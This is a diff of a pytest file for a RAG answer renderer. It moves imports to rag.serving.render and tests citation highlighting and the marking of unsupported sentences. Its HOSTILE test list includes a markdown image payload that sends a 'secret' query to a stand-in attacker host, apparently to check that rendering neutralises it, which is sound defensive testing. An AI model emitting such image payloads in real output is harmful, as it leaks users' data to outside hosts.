@@ -5,7 +5,7 @@ import html
 import pytest
 from markdown_it import MarkdownIt
 
-from rag.render import answer_markdown, escape_markdown, quotes_in_paragraph
+from rag.serving.render import answer_markdown, escape_markdown, quotes_in_paragraph
 
 HOSTILE = [
     "![x](http://attacker/?q=secret)",
@@ -76,7 +76,7 @@ def _citation(n, quote, source="a.txt"):
 
 
 def test_one_entry_per_cited_paragraph_with_every_quote_in_it_highlighted():
-    from rag.render import source_entries
+    from rag.serving.render import source_entries
 
     citations = [_citation(1, "The summit was cancelled on Tuesday."), _citation(2, "the sanctions hit Rosneft."),
                  _citation(3, "Talks end.")]
@@ -88,7 +88,7 @@ def test_one_entry_per_cited_paragraph_with_every_quote_in_it_highlighted():
 
 
 def test_a_changed_article_gets_no_highlight_at_all():
-    from rag.render import source_entries
+    from rag.serving.render import source_entries
 
     entries = source_entries([_citation(1, "The summit was cancelled on Tuesday.")],
                              {"a.txt": ARTICLE.replace("Tuesday", "Monday")})
@@ -104,7 +104,7 @@ def test_markers_carry_their_quote_as_a_plain_title_and_lead_to_their_entry():
 
 
 def test_left_out_sentences_are_struck_through_with_why():
-    from rag.render import left_out_markdown
+    from rag.serving.render import left_out_markdown
 
     support = [{"sentence": "Kept [1].", "citations": [1], "supported": True},
                {"sentence": "Talks moved to *Lisbon*.", "citations": [2], "supported": False},
